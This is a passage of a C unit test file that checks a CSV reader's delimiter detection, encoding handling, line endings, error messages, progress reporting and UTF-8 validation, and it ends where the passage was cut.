/*
 * test_csv.c - the CSV reader of util/csv.c: delimiter detection, byte order marks, line
 * endings, the start line of records that span lines, the errors a person sees for a broken
 * file, UTF-8 validation and field quoting on output.
 *
 * Every read is turned into a dump, one record a line: "[line] field|field|...", so that a
 * test states the whole expected result in one string.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "util/csv.h"

#define assert_contains(hay, needle)                                                               \
    do {                                                                                           \
        if (strstr((hay), (needle)) == NULL)                                                       \
            fail_msg("'%s' does not contain '%s'", (hay), (needle));                               \
    } while (0)

typedef struct dump {
    char text[4096];
    size_t len;
    size_t nrecords;
    size_t stop_at;        /* return stop_status at this record (1-based); 0: never */
    pn_status stop_status; /* what the callback returns there */
} dump;

static pn_status collect(void *ctx, size_t line, size_t n, char *const *fields, pn_error *err)
{
    dump *d = ctx;
    d->nrecords++;
    int w = snprintf(d->text + d->len, sizeof d->text - d->len, "[%zu]", line);
    assert_true(w > 0 && (size_t)w < sizeof d->text - d->len);
    d->len += (size_t)w;
    for (size_t i = 0; i < n; i++) {
        w = snprintf(d->text + d->len, sizeof d->text - d->len, "%s%s", i ? "|" : " ", fields[i]);
        assert_true(w >= 0 && (size_t)w < sizeof d->text - d->len);
        d->len += (size_t)w;
    }
    assert_true(d->len + 1 < sizeof d->text);
    d->text[d->len++] = '\n';
    d->text[d->len] = '\0';
    if (d->stop_at != 0 && d->nrecords == d->stop_at)
        return d->stop_status == PN_STOP
                   ? PN_STOP
                   : pn_error_set(err, d->stop_status, "stopped at line %zu", line);
    return PN_OK;
}

/* Counts records only, for files too big to dump. */
static pn_status count_only(void *ctx, size_t line, size_t n, char *const *fields, pn_error *err)
{
    (void)line, (void)n, (void)fields, (void)err;
    ((dump *)ctx)->nrecords++;
    return PN_OK;
}

/* Reads @len bytes of @text as file "t.csv" with the options @opts. */
static pn_status read_opts(const char *text, size_t len, const pn_csv_opts *opts, dump *d,
                           pn_csv_info *info, pn_error *err)
{
    /* fmemopen refuses a zero size on some libcs: read an empty file from /dev/null */
    FILE *in = len ? fmemopen((void *)text, len, "rb") : fopen("/dev/null", "rb");
    assert_non_null(in);
    pn_status st = pn_csv_read(in, "t.csv", opts, collect, d, info, err);
    fclose(in);
    return st;
}

/* Reads @len bytes of @text as file "t.csv" with delimiter @delim (0: detect). */
static pn_status read_mem(const char *text, size_t len, char delim, dump *d, pn_csv_info *info,
                          pn_error *err)
{
    pn_csv_opts opts = {.delim = delim};
    return read_opts(text, len, &opts, d, info, err);
}

#define READ_OK(input, given, expected_dump, expected_delim)                                       \
    do {                                                                                           \
        dump d_ = {0};                                                                             \
        pn_error e_ = {0};                                                                         \
        pn_csv_info i_ = {.delim = 'x'}; /* the reader must overwrite it */                        \
        pn_status st_ = read_mem((input), sizeof(input) - 1, (given), &d_, &i_, &e_);              \
        if (st_ != PN_OK)                                                                          \
            fail_msg("status %d: %s", (int)st_, e_.msg);                                           \
        assert_string_equal(d_.text, (expected_dump));                                             \
        assert_int_equal(i_.delim, (expected_delim));                                              \
    } while (0)

/* Reads @input with the encoding @enc (NULL: detect) and checks the dump and every field of
 * the info. */
#define READ_ENC(input, enc, expected_dump, delim_, encoding_, newline_)                           \
    do {                                                                                           \
        dump d_ = {0};                                                                             \
        pn_error e_ = {0};                                                                         \
        pn_csv_info i_ = {.delim = 'x'};                                                           \
        pn_csv_opts o_ = {.encoding = (enc)};                                                      \
        pn_status st_ = read_opts((input), sizeof(input) - 1, &o_, &d_, &i_, &e_);                 \
        if (st_ != PN_OK)                                                                          \
            fail_msg("status %d: %s", (int)st_, e_.msg);                                           \
        assert_string_equal(d_.text, (expected_dump));                                             \
        assert_int_equal(i_.delim, (delim_));                                                      \
        assert_string_equal(i_.encoding, (encoding_));                                             \
        assert_string_equal(i_.newline, (newline_));                                               \
        assert_int_equal(i_.bytes, sizeof(input) - 1);                                             \
    } while (0)

/* Reads @input with the encoding @enc and checks the failure. */
#define READ_ENC_ERR(input, enc, expected_msg, expected_status)                                    \
    do {                                                                                           \
        dump d_ = {0};                                                                             \
        pn_error e_ = {0};                                                                         \
        pn_csv_opts o_ = {.encoding = (enc)};                                                      \
        pn_status st_ = read_opts((input), sizeof(input) - 1, &o_, &d_, NULL, &e_);                \
        assert_int_equal(st_, (expected_status));                                                  \
        assert_int_equal(e_.status, (expected_status));                                            \
        assert_string_equal(e_.msg, (expected_msg));                                               \
    } while (0)

#define READ_ERR(input, expected_msg, expected_status)                                             \
    do {                                                                                           \
        dump d_ = {0};                                                                             \
        pn_error e_ = {0};                                                                         \
        pn_status st_ = read_mem((input), sizeof(input) - 1, 0, &d_, NULL, &e_);                   \
        assert_int_equal(st_, (expected_status));                                                  \
        assert_int_equal(e_.status, (expected_status));                                            \
        assert_string_equal(e_.msg, (expected_msg));                                               \
    } while (0)

static void test_detect_comma(void **state)
{
    (void)state;
    READ_OK("a,b,c\n1,2,3\n", 0, "[1] a|b|c\n[2] 1|2|3\n", ',');
}

static void test_detect_semicolon(void **state)
{
    (void)state;
    /* the first line decides: 2 ';' against 1 ',' */
    READ_OK("a;b,c;d\n1;2;3\n", 0, "[1] a|b,c|d\n[2] 1|2|3\n", ';');
}

static void test_detect_tab(void **state)
{
    (void)state;
    READ_OK("a\tb;c\td\n", 0, "[1] a|b;c|d\n", '\t');
}

static void test_detect_ignores_quoted(void **state)
{
    (void)state;
    /* two commas inside quotes, two semicolons outside: ';' only if quotes are honoured */
    READ_OK("\"x,y,z\";b;c\n", 0, "[1] x,y,z|b|c\n", ';');
    READ_OK("\"a;b;c;d\",e\n", 0, "[1] a;b;c;d|e\n", ',');
}

static void test_detect_delim_function(void **state)
{
    (void)state;
    assert_int_equal(pn_csv_detect_delim("", 0), ',');
    assert_int_equal(pn_csv_detect_delim("nothing", 7), ',');
    assert_int_equal(pn_csv_detect_delim("a;b,c", 5), ',');  /* a tie goes to ',' */
    assert_int_equal(pn_csv_detect_delim("a;b\tc", 5), ';'); /* ';' wins a tie with tab */
    assert_int_equal(pn_csv_detect_delim("a;b\tc\td", 7), '\t');
    assert_int_equal(pn_csv_detect_delim("\"\t\t\t\";x", 7), ';');
    /* only @len bytes are looked at */
    assert_int_equal(pn_csv_detect_delim("a;b,c,d,e", 3), ';');
}

static void test_given_delim_wins(void **state)
{
    (void)state;
    READ_OK("a,b;c\n", ';', "[1] a,b|c\n", ';');
    READ_OK("a;b;c,d\n", ',', "[1] a;b;c|d\n", ',');
}

static void test_utf8_bom_skipped(void **state)
{
    (void)state;
    READ_OK("\xEF\xBB\xBFnom;\xC3\xA2ge\nx;1\n", 0, "[1] nom|\xC3\xA2ge\n[2] x|1\n", ';');
    /* a BOM alone is an empty file */
    READ_ERR("\xEF\xBB\xBF", "t.csv: the file is empty", PN_EINPUT);
}

static void test_crlf(void **state)
{
    (void)state;
    READ_OK("a,b\r\nc,d\r\n", 0, "[1] a|b\n[2] c|d\n", ',');
    /* a quoted field keeps its own CRLF */
    READ_OK("a,\"x\r\ny\"\r\nc,d\r\n", 0, "[1] a|x\r\ny\n[3] c|d\n", ',');
}

static void test_multiline_record_keeps_start_line(void **state)
{
    (void)state;
    READ_OK("h1,h2\n\"x\ny\",z\nlast,w\n", 0, "[1] h1|h2\n[2] x\ny|z\n[4] last|w\n", ',');
    /* a record over three lines, a blank line inside the quotes is content */
    READ_OK("a\n\"1\n\n3\",b\nc\n", 0, "[1] a\n[2] 1\n\n3|b\n[5] c\n", ',');
}

static void test_blank_lines_skipped(void **state)
{
    (void)state;
    READ_OK("\na,b\n\n\r\nc,d\n\n", 0, "[2] a|b\n[5] c|d\n", ',');
}

static void test_last_line_without_newline(void **state)
{
    (void)state;
    READ_OK("a,b\nc,d", 0, "[1] a|b\n[2] c|d\n", ',');
}

static void test_empty_fields_kept(void **state)
{
    (void)state;
    READ_OK("a,,c,\n,,\n", 0, "[1] a||c|\n[2] ||\n", ',');
    READ_OK("\"\",x\n", 0, "[1] |x\n", ',');
}

static void test_tab_empty_fields_kept(void **state)
{
    (void)state;
    /* tabs are delimiters here, not blanks to trim */
    READ_OK("a\t\tc\t\n\tb\n\t\tz\n", 0, "[1] a||c|\n[2] |b\n[3] ||z\n", '\t');
}

static void test_spaces_trimmed_outside_quotes(void **state)
{
    (void)state;
    READ_OK(" a , b \n", 0, "[1] a|b\n", ',');
    READ_OK("\" a \",b\n", 0, "[1]  a |b\n", ',');
}

static void test_stray_quote(void **state)
{
    (void)state;
    /* strict mode: a quote inside an unquoted field */
    READ_ERR("a,b\nc,d \"q\"\n",
             "t.csv:2: malformed CSV: error parsing data while strict checking enabled", PN_EINPUT);
}

static void test_unterminated_quote(void **state)
{
    (void)state;
    READ_ERR("a,b\nc,\"d\ne\n",
             "t.csv:2: unterminated quoted field: a '\"' opened on this line "
             "is never closed",
             PN_EINPUT);
    READ_ERR("\n\n\"x",
             "t.csv:3: unterminated quoted field: a '\"' opened on this line is never "
             "closed",
             PN_EINPUT);
}

static void test_nul_byte(void **state)
{
    (void)state;
    READ_ERR("a,b\nc,d\0e\n", "t.csv:2: NUL byte at column 4: this is not a text (CSV) file",
             PN_EINPUT);
    READ_ERR("\0", "t.csv:1: NUL byte at column 1: this is not a text (CSV) file", PN_EINPUT);
}

static void test_invalid_utf8(void **state)
{
    (void)state;
    /* a valid 'é' on line 1, a lone Windows-1252 'é' on line 2: a broken UTF-8 file */
    READ_ERR("caf\xC3\xA9,b\nok,\xE9t\xE9\n",
             "t.csv:2: invalid UTF-8 at column 4 (byte 0xE9): the file mixes encodings; save it "
             "again as CSV UTF-8",
             PN_EINPUT);
    /* the valid character may come after the bad byte; columns count characters, not bytes */
    READ_ERR("x\n\xC3\xA9\xC3\xA9 \xE9\n\xE2\x82\xAC\n",
             "t.csv:2: invalid UTF-8 at column 4 (byte 0xE9): the file mixes encodings; save it "
             "again as CSV UTF-8",
             PN_EINPUT);
    /* a byte order mark says UTF-8; the column does not count it */
    READ_ERR("\xEF\xBB\xBF"
             "a,\xFF\n",
             "t.csv:1: invalid UTF-8 at column 3 (byte 0xFF): the file mixes encodings; save it "
             "again as CSV UTF-8",
             PN_EINPUT);
    /* a line ending in CR alone counts as a line */
    READ_ERR("\xC3\xA9\r\r\xC3\x28\n",
             "t.csv:3: invalid UTF-8 at column 1 (byte 0xC3): the file mixes encodings; save it "
             "again as CSV UTF-8",
             PN_EINPUT);
}

static void test_utf16_bom(void **state)
{
    (void)state;
    READ_OK("\xFF\xFE"
            "a\0,\0b\0\n\0",
            0, "[1] a|b\n", ',');
}

static void test_utf8_info(void **state)
{
    (void)state;
    READ_ENC("nom;\xC3\xA2ge\nx;1\n", NULL, "[1] nom|\xC3\xA2ge\n[2] x|1\n", ';', "UTF-8", "LF");
    READ_ENC("\xEF\xBB\xBFnom;\xC3\xA2ge\r\nx;1\r\n", NULL, "[1] nom|\xC3\xA2ge\n[2] x|1\n", ';',
             "UTF-8 (BOM)", "CRLF");
    /* ASCII is UTF-8; a file without a line ending says so */
    READ_ENC("a,b", NULL, "[1] a|b\n", ',', "UTF-8", "none");
}

static void test_windows1252(void **state)
{
    (void)state;
    /* what Excel writes as "CSV (séparateur: point-virgule)" on a French Windows: é 0xE9,
     * œ 0x9C, € 0x80, À 0xC0 */
    READ_ENC("nom;ville\r\nc\x9Cur;\xE9t\xE9 80\x80\r\n\xC0 bient\xF4t;x\r\n", NULL,
             "[1] nom|ville\n[2] c\xC5\x93ur|\xC3\xA9t\xC3\xA9 80\xE2\x82\xAC\n"
             "[3] \xC3\x80 bient\xC3\xB4t|x\n",
             ';', "WINDOWS-1252", "CRLF");
    /* the first non-ASCII byte is in the header: the delimiter is still found in the whole
     * first line (',' would win if only "Pr" were looked at) */
    READ_ENC("Pr\xE9nom;Nom;\xC2ge\nL\xE9"
             "a;B;7\n",
             NULL,
             "[1] Pr\xC3\xA9nom|Nom|\xC3\x82ge\n[2] L\xC3\xA9"
             "a|B|7\n",
             ';', "WINDOWS-1252", "LF");
    /* a lone invalid byte at the very end */
    READ_ENC("a\nb\xC3", NULL, "[1] a\n[2] b\xC3\x83\n", ',', "WINDOWS-1252", "LF");
}

static void test_utf16le_excel(void **state)
{
    (void)state;
    /* Excel's "Texte Unicode": UTF-16LE with a byte order mark, tabs, CRLF; a quoted cell
     * with a line break in it; é U+00E9, € U+20AC, œ U+0153 */
    static const char text[] = "\xFF\xFE"
                               "n\0o\0m\0\t\0v\0i\0l\0l\0e\0\r\0\n\0"
                               "1\0\t\0\"\0x\0\r\0\n\0y\0\"\0\r\0\n\0"
                               "2\0\t\0\xE9\0t\0\xE9\0 \0\xAC\x20\x53\x01\r\0\n\0";
    READ_ENC(text, NULL,
             "[1] nom|ville\n[2] 1|x\r\ny\n[4] 2|\xC3\xA9t\xC3\xA9 \xE2\x82\xAC\xC5\x93\n", '\t',
             "UTF-16LE", "CRLF");
    /* given as utf-16: the byte order mark decides, and is skipped */
    READ_ENC(text, "UTF-16",
             "[1] nom|ville\n[2] 1|x\r\ny\n[4] 2|\xC3\xA9t\xC3\xA9 \xE2\x82\xAC\xC5\x93\n", '\t',
             "UTF-16LE", "CRLF");
    /* utf-16 without a mark is little-endian, as Windows writes it */
    READ_ENC("a\0;\0\xE9\0\n\0", "utf-16", "[1] a|\xC3\xA9\n", ';', "UTF-16LE", "LF");
    /* a byte order mark alone is an empty file */
    READ_ENC_ERR("\xFF\xFE", NULL, "t.csv: the file is empty", PN_EINPUT);
}

static void test_utf16be(void **state)
{
    (void)state;
    static const char text[] = "\xFE\xFF"
                               "\0a\0;\0b\0\n"
                               "\0\xE9\0;\x20\xAC\0\n";
    READ_ENC(text, NULL, "[1] a|b\n[2] \xC3\xA9|\xE2\x82\xAC\n", ';', "UTF-16BE", "LF");
    READ_ENC(text, "utf-16", "[1] a|b\n[2] \xC3\xA9|\xE2\x82\xAC\n", ';', "UTF-16BE", "LF");
    READ_ENC(text, "UTF-16be", "[1] a|b\n[2] \xC3\xA9|\xE2\x82\xAC\n", ';', "UTF-16BE", "LF");
}

static void test_cr_line_endings(void **state)
{
    (void)state;
    /* old Mac Excel: CR alone; a quoted field over two lines, a blank line */
    READ_ENC("a,b\rc,\"d\re\"\r\rf,g\r", NULL, "[1] a|b\n[2] c|d\re\n[5] f|g\n", ',', "UTF-8",
             "CR");
    /* each ending counts once, whatever its kind */
    READ_ENC("a\rb\nc\r\nd\n\re\n", NULL, "[1] a\n[2] b\n[3] c\n[4] d\n[6] e\n", ',', "UTF-8",
             "CR");
    /* Mac Roman from old Mac Excel, given by name: é is 0x8E there */
    READ_ENC("caf\x8E;x\r", "mac-roman", "[1] caf\xC3\xA9|x\n", ';', "MACINTOSH", "CR");
}

static void test_forced_encoding(void **state)
{
    (void)state;
    /* Latin-1 read as latin1: 0x80 is a control character there, not the euro sign */
    READ_ENC("nom\n\xE9l\xE8ve \x80\n", "LATIN1", "[1] nom\n[2] \xC3\xA9l\xC3\xA8ve \xC2\x80\n",
             ',', "ISO-8859-1", "LF");
    READ_ENC("nom\n\xE9l\xE8ve \xA4\n", "latin9", "[1] nom\n[2] \xC3\xA9l\xC3\xA8ve \xE2\x82\xAC\n",
             ',', "ISO-8859-15", "LF");
    /* UTF-8 read as windows-1252 gives mojibake: the override applies, detection does not */
    READ_ENC("caf\xC3\xA9\n", "windows-1252", "[1] caf\xC3\x83\xC2\xA9\n", ',', "WINDOWS-1252",
             "LF");
    /* ... and a UTF-8 byte order mark is not one of windows-1252: it stays, as "ï»¿" */
    READ_ENC("\xEF\xBB\xBFx\n", "cp1252", "[1] \xC3\xAF\xC2\xBB\xC2\xBFx\n", ',', "WINDOWS-1252",
             "LF");
    /* a matching byte order mark is skipped */
    READ_ENC("\xEF\xBB\xBFx\n", "utf8", "[1] x\n", ',', "UTF-8 (BOM)", "LF");
    READ_ENC("\xFF\xFEx\0\n\0", "utf-16le", "[1] x\n", ',', "UTF-16LE", "LF");
    /* "auto" is detection */
    READ_ENC("\xE9\n", "auto", "[1] \xC3\xA9\n", ',', "WINDOWS-1252", "LF");
    /* any name iconv knows: é is 0x82 in the DOS code page 850 */
    READ_ENC("caf\x82\n", "cp850", "[1] caf\xC3\xA9\n", ',', "CP850", "LF");
}

static void test_unknown_encoding(void **state)
{
    (void)state;
    READ_ENC_ERR("a\n", "klingon",
                 "unknown encoding 'klingon' (known: utf-8, windows-1252, latin1, iso-8859-15, "
                 "utf-16, utf-16le, utf-16be, macintosh)",
                 PN_EUSAGE);
}

static void test_encoding_errors(void **state)
{
    (void)state;
    /* 0x81 is undefined in Windows-1252; the column counts characters (é is 2 bytes once
     * decoded, 1 character) */
    READ_ENC_ERR("a;b\nok;\xE9\xE9\x81\n", NULL,
                 "t.csv:2: byte 0x81 at column 6 is not a character in WINDOWS-1252; give the "
                 "right encoding with --encoding",
                 PN_EINPUT);
    READ_ENC_ERR("a\r\rx\x81\n", "windows-1252",
                 "t.csv:3: byte 0x81 at column 2 is not a character in WINDOWS-1252; give the "
                 "right encoding with --encoding",
                 PN_EINPUT);
    /* UTF-8 given, Latin-1 found */
    READ_ENC_ERR("a\nb\xE9\n", "utf-8",
                 "t.csv:2: byte 0xE9 at column 2 is not a character in UTF-8; give the right "
                 "encoding with --encoding",
                 PN_EINPUT);
    /* a character cut by the end of the file */
    READ_ENC_ERR("a\nb\xC3", "utf-8",
                 "t.csv:2: the file ends inside a character at column 2 (byte 0xC3): it is cut "
                 "short or not in UTF-8; give the right encoding with --encoding",
                 PN_EINPUT);
    READ_ENC_ERR("\xFF\xFE"
                 "a\0\n\0\xE9\0z",
                 NULL,
                 "t.csv:2: the file ends inside a character at column 2 (byte 0x7A): it is cut "
                 "short or not in UTF-16LE; give the right encoding with --encoding",
                 PN_EINPUT);
    /* a lone low surrogate U+DC00 is no character */
    READ_ENC_ERR("\xFF\xFE"
                 "a\0\x00\xDC\n\0",
                 NULL,
                 "t.csv:1: byte 0x00 at column 2 is not a character in UTF-16LE; give the right "
                 "encoding with --encoding",
                 PN_EINPUT);
}

static void test_workbook(void **state)
{
    (void)state;
    READ_ERR("PK\x03\x04\x14\0\x06\0\x08\0",
             "t.csv: this is a spreadsheet workbook (.xlsx or .ods), not a CSV file: open it and "
             "save it as CSV (UTF-8), then import the CSV",
             PN_EINPUT);
    READ_ERR("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1",
             "t.csv: this is an old Excel workbook (.xls), not a CSV file: open it and save it as "
             "CSV (UTF-8), then import the CSV",
             PN_EINPUT);
    /* whatever encoding is given */
    READ_ENC_ERR("PK\x03\x04", "latin1",
                 "t.csv: this is a spreadsheet workbook (.xlsx or .ods), not a CSV file: open it "
                 "and save it as CSV (UTF-8), then import the CSV",
                 PN_EINPUT);
}

static void test_nul_decoded(void **state)
{
    (void)state;
    /* U+0000 in UTF-16 text: the 0 bytes of the other characters are fine */
    READ_ERR("\xFF\xFE"
             "a\0,\0\n\0\xE9\0,\0\0\0b\0\n\0",
             "t.csv:2: NUL byte at column 3: this is not a text (CSV) file", PN_EINPUT);
    /* in Windows-1252 text, after a character that decodes to two bytes */
    READ_ERR("\xE9\xE9\0", "t.csv:1: NUL byte at column 3: this is not a text (CSV) file",
             PN_EINPUT);
}

typedef struct progress_log {
    size_t calls;
    unsigned long long last_done;
    unsigned long long last_total;
    int backwards;
} progress_log;

static void on_progress(void *ctx, unsigned long long done, unsigned long long total)
{
    progress_log *p = ctx;
    if (done < p->last_done)
        p->backwards = 1;
    p->calls++;
    p->last_done = done;
    p->last_total = total;
}

static void test_progress(void **state)
{
    (void)state;
    char path[] = "/tmp/pn_test_csv_XXXXXX";
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    FILE *out = fdopen(fd, "wb");
    assert_non_null(out);
    /* 3.5 MiB in lines of 16 bytes, after a header of 15 */
    fputs("id;nom;\xC3\xA9tat;x\n", out);
    for (size_t i = 0; i < 3 * 65536 + 32768; i++)
        fprintf(out, "%07zu;abc;de;\n", i);
    assert_int_equal(ftell(out), 15 + (3 * 65536 + 32768) * 16L);
    assert_int_equal(fclose(out), 0);
    const unsigned long long size = 15 + (3 * 65536 + 32768) * 16ULL;

    progress_log log = {0};
    pn_csv_opts opts = {.progress = on_progress, .progress_ctx = &log};
    dump d = {0};
    d.stop_at = 0;
    pn_error err = {0};
    pn_csv_info info = {0};
    FILE *in = fopen(path, "rb");
    assert_non_null(in);
    pn_status st = pn_csv_read(in, path, &opts, count_only, &d, &info, &err);
    fclose(in);
    if (st != PN_OK)
        fail_msg("status %d: %s", (int)st, err.msg);
    assert_int_equal(d.nrecords, 1 + 3 * 65536 + 32768);
    /* about once a MiB, then once at the end with everything read */
    assert_int_equal(log.calls, 4);
    assert_false(log.backwards);
    assert_int_equal(log.last_done, size);
    assert_int_equal(log.last_total, size);
    assert_int_equal(info.bytes, size);
    assert_int_equal(info.delim, ';');

    /* a memory stream has no known size: total is 0, done is still every byte */
    static const char text[] = "a\nb\n";
    progress_log mem = {0};
    pn_csv_opts mopts = {.progress = on_progress, .progress_ctx = &mem};
    dump md = {0};
    st = read_opts(text, sizeof text - 1, &mopts, &md, NULL, &err);
    assert_int_equal(st, PN_OK);
    assert_int_equal(mem.calls, 1);
    assert_int_equal(mem.last_done, sizeof text - 1);
    assert_int_equal(mem.last_total, 0);

    /* no call at the end of a failed read */
    progress_log bad = {0};
    pn_csv_opts bopts = {.progress = on_progress, .progress_ctx = &bad};
    dump bd = {0};
    st = read_opts("\"x", 2, &bopts, &bd, NULL, &err);
    assert_int_equal(st, PN_EINPUT);
    assert_int_equal(bad.calls, 0);
    assert_int_equal(unlink(path), 0);
}

/* Records what the info says when the first record arrives. */
typedef struct early {
    const pn_csv_info *info;
    char encoding[32];
    char delim;
    size_t records;
} early;

static pn_status look_at_info(void *ctx, size_t line, size_t n, char *const *fields, pn_error *err)
{
    (void)line, (void)n, (void)fields, (void)err;
    early *e = ctx;
    if (e->records++ == 0) {
        snprintf(e->encoding, sizeof e->encoding, "%s", e->info->encoding);
        e->delim = e->info->delim;
    }
    return PN_OK;
}

static void test_info_before_first_record(void **state)
{
    (void)state;
    /* the header is ASCII, the first Windows-1252 byte is on line 3: the encoding is still
     * known when the header arrives (an importer may choose its dialect from it) */
    static const char text[] = "a;b\nx;y\n\xE9;z\n";
    FILE *in = fmemopen((void *)text, sizeof text - 1, "rb");
    assert_non_null(in);
    pn_csv_info info = {0};
    early e = {.info = &info};
    pn_error err = {0};
    assert_int_equal(pn_csv_read(in, "t.csv", NULL, look_at_info, &e, &info, &err), PN_OK);
    fclose(in);
    assert_int_equal(e.records, 3);
    assert_string_equal(e.encoding, "WINDOWS-1252");
    assert_int_equal(e.delim, ';');
}

static void test_empty_file(void **state)
{
    (void)state;
    READ_ERR("", "t.csv: the file is empty", PN_EINPUT);
    READ_ERR("\n\r\n\n", "t.csv: the file is empty", PN_EINPUT);
}

static void count_progress(void *ctx, unsigned long long done, unsigned long long total)
{
    (void)done, (void)total;
    ++*(int *)ctx;
}

/* A callback's PN_STOP ends the reading as a success, the rest of the file unread (an
 * unterminated quote after the header is not seen); a callback's real failure on the header,
 * PN_EINTERNAL included, is returned as that failure, so that the two cannot be confused. */
static void test_callback_stop_is_no_error(void **state)
{
    (void)state;
    static const char text[] = "a;b\n1;2\n\"3;4\n";
    int calls = 0;
    pn_csv_opts opts = {.progress = count_progress, .progress_ctx = &calls};
    pn_csv_info info;
    dump d = {.stop_at = 1, .stop_status = PN_STOP};
    pn_error err = {0};
    assert_int_equal(read_opts(text, sizeof text - 1, &opts, &d, &info, &err), PN_OK);
    assert_int_equal(err.status, PN_OK);
    assert_string_equal(err.msg, "");
    assert_string_equal(d.text, "[1] a|b\n");
    assert_int_equal(info.delim, ';');
    assert_int_equal(calls, 0); /* the end of a read that stopped is not reported */

    dump fail = {.stop_at = 1, .stop_status = PN_EINTERNAL};
    assert_int_equal(read_opts(text, sizeof text - 1, NULL, &fail, NULL, &err), PN_EINTERNAL);
    assert_int_equal(err.status, PN_EINTERNAL);
    assert_string_equal(err.msg, "stopped at line 1");
    assert_string_equal(fail.text, "[1] a|b\n");

    /* a stop on the last record, which libcsv hands out only at the end of the input */
    static const char last[] = "a\nb";
    dump d2 = {.stop_at = 2, .stop_status = PN_STOP};
    pn_error_clear(&err);
    assert_int_equal(read_mem(last, sizeof last - 1, 0, &d2, NULL, &err), PN_OK);
    assert_int_equal(err.status, PN_OK);
    assert_string_equal(d2.text, "[1] a\n[2] b\n");
}

static void test_callback_error_stops(void **state)
{
    (void)state;
    static const char text[] = "a\nb\nc\nd\n";
    dump d = {.stop_at = 2, .stop_status = PN_EINTERNAL};
    pn_error err = {0};
    pn_status st = read_mem(text, sizeof text - 1, 0, &d, NULL, &err);
    assert_int_equal(st, PN_EINTERNAL);
    assert_int_equal(err.status, PN_EINTERNAL);
    assert_string_equal(err.msg, "stopped at line 2");
    assert_int_equal(d.nrecords, 2);
    assert_string_equal(d.text, "[1] a\n[2] b\n");

    /* the last record, submitted only at the end of the input */
    static const char last[] = "a\nb";
    dump d2 = {.stop_at = 2, .stop_status = PN_EINPUT};
    pn_error err2 = {0};
    st = read_mem(last, sizeof last - 1, 0, &d2, NULL, &err2);
    assert_int_equal(st, PN_EINPUT);
    assert_string_equal(err2.msg, "stopped at line 2");
    assert_int_equal(d2.nrecords, 2);
}

static void test_read_path(void **state)
{
    (void)state;
    char path[] = "/tmp/pn_test_csv_XXXXXX";
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    static const char text[] = "x;y\n1;\xC3\xA9\n2;\xFF\n";
    assert_int_equal(write(fd, text, sizeof text - 1), (ssize_t)(sizeof text - 1));
    close(fd);

    dump d = {0};
    pn_error err = {0};
    pn_csv_info info = {0};
    pn_status st = pn_csv_read_path(path, NULL, collect, &d, &info, &err);
    /* the message names the file by its path */
    char expected[256];
    snprintf(expected, sizeof expected,
             "%s:3: invalid UTF-8 at column 3 (byte 0xFF): the file mixes encodings; save it "
             "again as CSV UTF-8",
             path);
    assert_int_equal(st, PN_EINPUT);
    assert_string_equal(err.msg, expected);
    assert_string_equal(d.text, "[1] x|y\n[2] 1|\xC3\xA9\n");
    /* what was found before the fault is reported */
    assert_int_equal(info.delim, ';');
    assert_string_equal(info.encoding, "UTF-8");
    assert_string_equal(info.newline, "LF");
    assert_int_equal(info.bytes, sizeof text - 1);
    assert_int_equal(unlink(path), 0);
}

static void test_read_path_missing(void **state)
{
    (void)state;
    char dir[] = "/tmp/pn_test_csv_XXXXXX";
    assert_non_null(mkdtemp(dir));
    char path[256];
    snprintf(path, sizeof path, "%s/x", dir);
    dump d = {0};
    pn_error err = {0};
    pn_status st = pn_csv_read_path(path, NULL, collect, &d, NULL, &err);
    char expected[300];
    snprintf(expected, sizeof expected, "cannot open '%s': No such file or directory", path);
    assert_int_equal(st, PN_EIO);
    assert_int_equal(err.status, PN_EIO);
    assert_string_equal(err.msg, expected);
    assert_int_equal(d.nrecords, 0);
    assert_int_equal(rmdir(dir), 0);
}

static void test_utf8_valid(void **state)
{
    (void)state;
    static const struct {
        const char *s;
        size_t len;
        int ok;
        size_t bad;
    } cases[] = {
        {"", 0, 1, 0},
        {"plain ascii", 11, 1, 0},
        {"a\0b", 3, 1, 0},                 /* NUL is ASCII; csv.c checks it apart */
        {"\xC3\xA9", 2, 1, 0},             /* é, 2 bytes */
        {"\xE2\x82\xAC", 3, 1, 0},         /* €, 3 bytes */
        {"\xF0\x9D\x84\x9E", 4, 1, 0},     /* U+1D11E, 4 bytes */
        {"\xF4\x8F\xBF\xBF", 4, 1, 0},     /* U+10FFFF, the last code point */
        {"\xED\x9F\xBF", 3, 1, 0},         /* U+D7FF, just below the surrogates */
        {"\xEE\x80\x80", 3, 1, 0},         /* U+E000, just above */
        {"x\xC2\x80y", 4, 1, 0},           /* U+0080, the smallest 2-byte */
        {"\xC0\xAF", 2, 0, 0},             /* overlong '/' */
        {"\xC1\xBF", 2, 0, 0},             /* overlong U+007F */
        {"ab\xE0\x80\xAF", 5, 0, 2},       /* overlong, 3 bytes */
        {"\xF0\x82\x82\xAC", 4, 0, 0},     /* overlong €, 4 bytes */
        {"\xED\xA0\x80", 3, 0, 0},         /* U+D800, a surrogate */
        {"ok\xED\xBF\xBF", 5, 0, 2},       /* U+DFFF */
        {"\xF4\x90\x80\x80", 4, 0, 0},     /* U+110000, beyond Unicode */
        {"a\xC3", 2, 0, 1},                /* truncated at the end */
        {"ab\xE2\x82", 4, 0, 2},           /* truncated 3-byte */
        {"\xF0\x9D\x84", 3, 0, 0},         /* truncated 4-byte */
        {"\xC3\xA9", 1, 0, 0},             /* valid bytes, but @len cuts them */
        {"\xC3\x28", 2, 0, 0},             /* second byte not a continuation */
        {"abc\x80", 4, 0, 3},              /* lone continuation byte */
        {"\xF8\x88\x80\x80\x80", 5, 0, 0}, /* 5-byte form */
        {"\xFF", 1, 0, 0},                 /* never valid */
        {"\xC3\xA9\xE2\x82\xAC!\xFE", 7, 0, 6},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        size_t bad = 12345;
        int ok = pn_utf8_valid(cases[i].s, cases[i].len, &bad);
        if (ok != cases[i].ok)
            fail_msg("case %zu: pn_utf8_valid = %d, expected %d", i, ok, cases[i].ok);
        if (!ok && bad != cases[i].bad)
            fail_msg("case %zu: bad offset %zu, expected %zu", i, bad, cases[i].bad);
        if (ok && bad != 12345)
            fail_msg("case %zu: bad offset written for a valid string", i);
        assert_int_equal(pn_utf8_valid(cases[i].s, cases[i].len, NULL), cases[i].ok);
    }
}

/* What pn_csv_write_field writes for @s. */
static char *write_field(const char *s, char delim)
